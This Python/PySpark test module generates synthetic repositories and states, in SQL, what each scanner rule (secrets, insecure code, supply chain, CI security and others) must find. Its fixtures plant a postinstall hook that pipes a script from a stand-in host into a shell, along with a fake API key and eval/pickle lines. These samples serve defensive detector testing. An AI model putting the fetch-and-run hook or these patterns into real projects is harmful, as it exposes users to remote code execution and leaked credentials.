"""Each rule over one synthetic repository for each customer, with SQL that says from the customer's number what the rule must find."""

from __future__ import annotations

from collections.abc import Callable

import pyarrow as pa
from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..operators import metrics, timeline
from ..operators.scanners import RULES, Snapshot
from ..session import dealt, table

QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
SQL: dict[str, str] = {}
AS_OF = "2026-08-01"
KEY = "Zx9Qw8Er7Ty6Ui5Op4As"


def _files(k: Column) -> dict[str, Column]:
    """Contents of a repository's files by path; null where there is no such file."""
    n = lambda m: (k % m).cast("string")
    cat = lambda *parts: F.concat(*(p if isinstance(p, Column) else F.lit(p) for p in parts))
    pick = lambda of, *values: F.element_at(F.array(*(v if isinstance(v, Column) else F.lit(v) for v in values)), (of + 1).cast("int"))
    on = lambda test, yes, no: F.when(test, yes).otherwise(no)
    dep = cat("dep", n(9))
    return {
        "src/main.py": cat(
            "import os\n", on(k % 2 == 0, "# TODO: tidy up\n", "# fine\n"), on(k % 3 == 0, "print(value)\n", "value = 1\n"), F.when(k % 5 == 0, "eval(value)\n").when(k % 7 == 0, "pickle.loads(value)\n").otherwise("value = 2\n"),
            'URL = os.getenv("VAR_', n(11), '")\n', on(k % 4 == 0, 'pytest.skip("later")\n', "pass\n"), on(k % 9 == 0, f'api_key = "{KEY}"\n', "done = 1\n"),
        ),
        "src/lib.py": cat("def helper():\n    return 1\n", on(k % 2 == 0, "\nresult = helper()\n", "")),
        "lib/a.ts": cat(pick(k % 3, "let a = 1;\n", "// a = 1;\n// b = 2;\n// c(a, b);\n", "// a = 1;\n// b = 2;\n"), on(k % 2 == 0, cat("import x from '", dep, "';\nx();\n"), "")),
        ".env.example": F.when(k % 2 == 1, "VAR_1=\nVAR_2=\nOLD=1\n"),
        "Dockerfile": cat("FROM ", pick(k % 4, "node:latest", "ubuntu", "python:3.13", "$BASE"), "\nRUN make\nUSER ", on(k % 3 == 0, "app\n", "root\n")),
        ".nvmrc": cat("v", (k % 17 + 8).cast("string"), "\n"),
        "package.json": cat('{"scripts": {"build": "tsc"', on(k % 6 == 0, ', "postinstall": "curl http://x.test/i | sh"', ""), '}, "dependencies": {"', dep, '": "^1.0.0"', on(k % 8 == 0, ', "web": "http://x.test/w.tgz"', ""), '}, "license": "MIT"}\n'),
        "package-lock.json": F.when(k % 3 != 0, cat('{"x": "', on(k % 2 == 0, dep, "none"), '"}\n')),
        "yarn.lock": F.when(k % 10 == 0, cat(dep, '@^1.0.0:\n  version "1.0.0"\n')),
        "README.md": cat("[a](src/main.py)\n", on(k % 4 == 1, "[b](docs/gone.md)\n", "[b](.nvmrc)\n"), "See https://h", n(13), ".site.io/x for more\n```\n", on(k % 5 == 2, "npm run deploy\n", "npm run build\n"), "```\n"),
        ".github/workflows/ci.yml": cat(
            on(k % 2 == 0, "on: push\n", "on: [push, pull_request]\n"), on(k % 3 == 0, "permissions: read-all\n", "name: ci\n"), "jobs:\n  t:\n    runs-on: ", on(k % 7 == 0, "self-hosted\n", "ubuntu-latest\n"), "    steps:\n      - uses: ",
            pick(k % 3, "owner/act@v1", "actions/checkout@v4", "owner/act@0123456789012345678901234567890123456789"), "\n      - run: ", on(k % 5 == 0, "pytest || true\n", "pytest\n"),
        ),
        "requirements.txt": cat("pkg", n(6), "==1.", n(4), ".0\n"),
    }


def snapshot(spark: SparkSession, d: str) -> Snapshot:
    """One repository for each customer, named by its number, with all adapters.

    Customers are dealt over the cluster before each becomes files, and meet the files' places by a join: Spark then knows that there are many more bytes than in the table, and broadcasts none of them.
    Paths belong to the places, so a rule's condition on them is met there, and only the files that it asks for are written out.
    """
    c, k, nth = dealt(table(spark, d, "customer").select(F.col("c_custkey").alias("k")), "k"), F.col("k"), F.col("nth")
    licence = F.concat(F.lit('{"license": "'), F.element_at(F.array(*map(F.lit, ("MIT", "AGPL-3.0", "GPL-3.0", "UNLICENSED"))), (k % 4 + 1).cast("int")), F.lit('"}'))
    every = _files(k)
    last = len(every)
    places = [(i, p, i, None) for i, p in enumerate(every)] + [(last, f"node_modules/dep{r}/package.json", 99, r) for r in range(9)]
    places = spark.createDataFrame(pa.Table.from_pylist([dict(zip(("nth", "path", "file_ord", "remainder"), p, strict=True)) for p in places]))
    content = F.coalesce(*(F.when(nth == i, x) for i, x in enumerate([*every.values(), licence])))
    repo = k.cast("string").alias("repo_id")
    files = c.join(F.broadcast(places), F.col("remainder").isNull() | (k % 9 == F.col("remainder"))).select(repo, "path", "file_ord", F.inline(F.array(F.struct(content.alias("content")))))
    files = files.filter("content is not null").withColumn("size", F.octet_length("content").cast("long"))
    o = table(spark, d, "orders")
    names = lambda stem, n, *values: [(stem + str(j), *(v(j) for v in values)) for j in range(n)]
    return Snapshot(
        files=files.select("repo_id", "path", "file_ord", "size", "content"),
        as_of=AS_OF,
        blame=c.select(repo, F.lit("src/main.py").alias("path"), F.lit(2).alias("line"), k.cast("int").alias("age_days")),
        branches=o.select(F.col("o_custkey").cast("string").alias("repo_id"), F.concat(F.lit("b"), F.col("o_orderkey").cast("string")).alias("name"), F.lit("x").alias("last_commit"), F.lit(1).alias("behind"), F.datediff(F.lit("2001-10-01"), F.to_date("o_orderdate")).alias("age_days")),
        ownership=c.select(repo, F.lit("src/main.py").alias("path"), (k % 3).cast("int").alias("authors"), k.cast("int").alias("age_days")),
        registry=spark.createDataFrame([("PyPI", name, "1.2.0", False, day, None, None, None) for name, day in names("pkg", 6, lambda j: "2026-01-01" if j % 2 else "2020-01-01")], "ecosystem string, name string, latest string, deprecated boolean, published string, downloads long, unpacked_size long, license string"),
        advisories=spark.createDataFrame([("PyPI", name, "1.0.0", v, "bad", label, None, None) for name, v, label in names("pkg", 6, lambda j: f"V{j}", lambda j: ("HIGH", "LOW", "MODERATE")[j % 3])], "ecosystem string, name string, version string, vuln_id string, summary string, label string, alias string, fixed string"),
        url_status=spark.createDataFrame([(f"https://h{j}.site.io/x", (404, None, 200, 301)[j % 4]) for j in range(13)], "url string, status int"),
    )


_C = "WITH c AS (SELECT c_custkey AS k, c_custkey::VARCHAR AS repo_id FROM customer)"
_one = lambda *found: f"{_C} " + " UNION ALL ".join(f"SELECT repo_id, {id_} AS id, {sev} AS severity FROM c WHERE {test}" for test, id_, sev in found)
_W = ".github/workflows/ci.yml"
#: What each rule finds: (condition on k, id, severity).
EXPECTED: dict[str, str] = {
    "todo-debt": _one(("k % 2 = 0", "'todo-src/main.py:2'", "CASE WHEN k >= 365 THEN 'warning' ELSE 'info' END")),
    "leftover-debug": _one(("k % 3 = 0", "'debug-src/main.py:3'", "'info'")),
    "insecure-code": _one(("k % 5 = 0", "'insecure-py-eval-exec-src/main.py:4'", "'critical'"), ("k % 5 <> 0 AND k % 7 = 0", "'insecure-py-pickle-load-src/main.py:4'", "'warning'")),
    "skipped-tests": _one(("k % 4 = 0", "'skiptest-src/main.py:6'", "'info'")),
    "env-lifecycle": _one(
        ("k % 2 = 1 AND k % 11 NOT IN (1, 2)", "'env-missing-VAR_' || k % 11", "'warning'"), ("k % 2 = 0", "'env-no-example'", "'info'"), ("k % 2 = 1", "'env-dead-OLD'", "'info'"),
        ("k % 2 = 1 AND k % 11 <> 1", "'env-dead-VAR_1'", "'info'"), ("k % 2 = 1 AND k % 11 <> 2", "'env-dead-VAR_2'", "'info'"),
    ),
    "secrets": _one(("k % 9 = 0", f"'secret-generic-' || left(sha256('{KEY}'), 12)", "'critical'")),
    "dead-code": _one(("k % 2 = 1", "'dead-symbol-src/lib.py:1'", "'info'")),
    "commented-code": _one(("k % 3 = 1", "'commented-lib/a.ts:1'", "'info'")),
    "dockerfile": _one(("k % 4 = 0", "'docker-latest-Dockerfile:1'", "'warning'"), ("k % 4 = 1", "'docker-untagged-Dockerfile:1'", "'warning'"), ("k % 3 <> 0", "'docker-root-Dockerfile'", "'info'")),
    "eol-runtime": _one(("k % 17 + 8 NOT IN (22, 24)", "'eol-node-.nvmrc-1'", "'warning'")),
    "supply-chain": _one(("k % 6 = 0", "'supply-lifecycle-remote-shell-package.json-postinstall'", "'critical'"), ("k % 8 = 0", "'supply-dep-git-http-package.json-dependencies-web'", "'warning'")),
    "lockfile-drift": _one(
        ("k % 3 = 0 AND k % 10 <> 0", "'lockfile-missing'", "'warning'"), ("k % 3 <> 0 AND k % 2 = 1", "'lockfile-drift-dep' || k % 9", "'warning'"), ("k % 8 = 0 AND (k % 3 <> 0 OR k % 10 = 0)", "'lockfile-drift-web'", "'warning'"),
    ),
    "config-conflict": _one(("k % 3 <> 0 AND k % 10 = 0", "'config-conflict-lockfiles-root'", "'warning'")),
    "dependency-funeral": _one(("k % 2 = 1", "'dep-unused-dep' || k % 9", "'info'"), ("k % 8 = 0", "'dep-unused-web'", "'info'")),
    "outdated-deps": _one(("k % 6 % 2 = 0", "'dep-abandoned-pypi-pkg' || k % 6", "'warning'"), ("k % 4 < 2", "'dep-outdated-pypi-pkg' || k % 6", "'info'")),
    "vulnerable-deps": _one(("k % 4 = 0", "'vuln-pkg' || k % 6 || '-V' || k % 6", "['critical', 'info', 'warning'][(k % 6 % 3 + 1)::INT]")),
    "license-risk": _one(("k % 4 = 1", "'license-network-dep' || k % 9", "'critical'"), ("k % 4 = 2", "'license-strong-dep' || k % 9", "'warning'"), ("k % 4 = 3", "'license-proprietary-dep' || k % 9", "'warning'")),
    "broken-doc-links": _one(("k % 4 = 1", "'doclink-README.md:2:docs/gone.md'", "'warning'")),
    "dead-links": _one(("k % 13 % 4 = 0", "'deadlink-404-https://h' || k % 13 || '.site.io/x'", "'warning'"), ("k % 13 % 4 = 1", "'deadlink-unreachable-https://h' || k % 13 || '.site.io/x'", "'info'")),
    "docs-drift": _one(("k % 5 = 2", "'docs-drift-script-README.md-5'", "'warning'")),
    "workflow-security": _one(
        ("k % 3 = 0", f"'action-tag-{_W}-7'", "'warning'"), ("k % 3 = 1", f"'action-tag-first-party-{_W}-7'", "'info'"), ("k % 7 = 0", f"'self-hosted-runner-{_W}-5'", "'warning'"), ("k % 3 <> 0", f"'no-permissions-{_W}-1'", "'warning'"),
    ),
    "ci-health": _one(("k % 5 = 0", f"'ci-swallowed-{_W}-8'", "'warning'"), ("k % 2 = 0", "'ci-no-pr-trigger'", "'info'")),
    "bus-factor": _one(("k % 3 = 1 AND k >= 365", "'busfactor-src/main.py'", "'info'")),
    "stale-branch": "WITH b AS (SELECT o_custkey::VARCHAR AS repo_id, 'branch-stale-b' || o_orderkey AS id, date_diff('day', o_orderdate::DATE, DATE '2001-10-01') AS age FROM orders) SELECT repo_id, id, CASE WHEN age >= 180 THEN 'warning' ELSE 'info' END AS severity FROM b WHERE age >= 90",
}


def _register(rule: str) -> None:
    def run(spark: SparkSession, d: str) -> DataFrame:
        s = snapshot(spark, d)
        if rule in ("dependency-funeral", "license-risk"):
            s.registry = None
        return RULES[rule](s).select("repo_id", "id", "severity")

    name = "rule_" + rule.replace("-", "_") + ("_planted" if rule == "secrets" else "")
    QUERIES[name], SQL[name] = run, EXPECTED[rule]


def tools_detected(spark: SparkSession, d: str) -> DataFrame:
    out = metrics.tools(snapshot(spark, d).files)
    return out.select("repo_id", F.array_join("tools", ", ").alias("tools"))


def proof_rows(spark: SparkSession, d: str) -> DataFrame:
    c, nation = table(spark, d, "customer"), table(spark, d, "nation")
    name = F.col("c_custkey").cast("string")
    every = c.join(nation, F.col("c_nationkey") == F.col("n_nationkey")).select(F.col("n_name").alias("owner"), name.alias("name"), "c_custkey")
    grade = F.element_at(F.array(*map(F.lit, "ABCDF")), (F.col("c_custkey") % 5 + 1).cast("int"))
    side = lambda case, m, plus: every.filter(F.col("c_custkey") % m == 0).select(F.concat_ws("/", case("owner"), "name").alias("repo_id"), grade.alias("grade"), (F.col("c_custkey") % 50 + plus).cast("int").alias("score"))
    return timeline.live_or_snapshot(every.select("owner", "name"), side(F.upper, 2, 0), side(F.lower, 3, 50))


def picked_commits(spark: SparkSession, d: str) -> DataFrame:
    o = table(spark, d, "orders")
    log = o.select(F.col("o_custkey").alias("repo_id"), F.col("o_orderkey").cast("string").alias("sha"), F.col("o_orderdate").alias("commit_ts"), F.col("o_orderpriority").alias("subject"), F.array(F.lit("a")).alias("parents"), F.lit(False).alias("tagged"), (F.col("o_orderkey") % 40).alias("files_changed"))
    return timeline.in_log(log, timeline.pick_commits(log, "URGENT", "big"), 5).select("repo_id", "sha", F.col("position").cast("long").alias("position"))


QUERIES |= {"tools_detected": tools_detected, "proof_rows": proof_rows, "picked_commits": picked_commits}
SQL |= {
    "tools_detected": f"{_C} SELECT repo_id, 'Node.js' || CASE WHEN k % 10 = 0 THEN ', Yarn' ELSE '' END || CASE WHEN k % 3 <> 0 THEN ', npm' ELSE '' END || ', Docker, GitHub Actions, pip' AS tools FROM c",
    "proof_rows": """SELECT n_name AS owner, c_custkey::VARCHAR AS name, CASE WHEN c_custkey % 6 NOT IN (1, 5) THEN substr('ABCDF', (c_custkey % 5 + 1)::INT, 1) ELSE 'C' END AS grade,
      (CASE WHEN c_custkey % 2 = 0 THEN c_custkey % 50 WHEN c_custkey % 3 = 0 THEN c_custkey % 50 + 50 ELSE 70 END)::INT AS score, CASE WHEN c_custkey % 2 = 0 THEN 'live' ELSE 'snapshot' END AS source FROM customer JOIN nation ON n_nationkey = c_nationkey""",
    "picked_commits": """WITH r AS (SELECT o_custkey AS repo_id, o_orderkey::VARCHAR AS sha, row_number() OVER (PARTITION BY o_custkey ORDER BY o_orderdate DESC, o_orderkey::VARCHAR) AS position FROM orders
      WHERE (lower(o_orderpriority) LIKE '%urgent%' OR o_orderkey::VARCHAR LIKE 'urgent%') AND o_orderkey % 40 >= 20) SELECT repo_id, sha, position FROM r WHERE position <= 5""",
}

for _rule in EXPECTED:
    _register(_rule)
